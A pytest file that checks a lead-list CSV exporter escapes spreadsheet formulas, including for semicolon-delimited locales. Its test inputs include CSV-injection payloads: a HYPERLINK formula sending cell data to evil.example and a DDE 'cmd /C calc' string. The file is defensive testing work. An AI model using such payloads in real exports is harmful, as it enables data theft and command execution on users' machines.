"""The CSV of a list."""

import csv
import io

import pytest

from engine.web.lists.export import COLUMNS, csv_header, csv_lines
from tests.unit.web.principals import card


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_header() + text, newline="")))


def test_a_line_has_what_the_list_shows() -> None:
    """One a lead, in its order, under one header."""
    rows = read(csv_lines([card("ada", total=91.46, place='The "Firm", Ltd', due_ms=1_000), card("bob", owner=None)]))
    assert [tuple(row) for row in rows] == [tuple(COLUMNS)] * 2
    assert (rows[0]["lead"], rows[0]["total"], rows[0]["company"]) == ("ada", "91.5", 'The "Firm", Ltd')
    assert rows[0]["due_at"] == "1970-01-01T00:00:01.000Z"
    assert (rows[1]["owner"], rows[1]["due_at"], rows[1]["territories"]) == ("", "", "")


def test_the_territories_of_a_lead_stand_in_one_cell() -> None:
    """The last one, one behind the other."""
    (row,) = read(csv_lines([card("ada", territories=("maine", "new-england"))]))
    assert [*row.items()][-1] == ("territories", "maine; new-england")
    (row,) = read(csv_lines([card("ada", territories=("=1+1", "-x"))]))
    assert row["territories"] == "'=1+1; '-x"


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\x00=", "＝"])
@pytest.mark.parametrize("field", ["lead", "name", "email", "phone", "place", "product", "persona", "source", "reason"])
def test_no_cell_is_a_formula(begin: str, field: str) -> None:
    """Whatever visitors call themselves: an apostrophe makes text of what a spreadsheet would run."""
    hostile = begin + 'HYPERLINK("https://evil.example?"&A1)'
    for cell in read(csv_lines([card(**({"lead": hostile} if field == "lead" else {field: hostile}))]))[0].values():
        assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\x00", "＝"}


@pytest.mark.parametrize("begin", ["x;", "x; ", 'x;"', 'x";"', "x;'", "x;1;"])
def test_no_cell_is_a_formula_where_semicolons_part_them(begin: str) -> None:
    """German and French spreadsheets open the file so: a cell of ours is then several of theirs."""
    text = csv_header() + csv_lines([card("ada", name=f"{begin}=cmd|' /C calc'!A0;", place="a;b")])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in row:
            assert cell.strip()[:1] not in {"=", "+", "-", "@"}
    assert read(text.partition("\n")[2])[0]["company"] == "a;b"
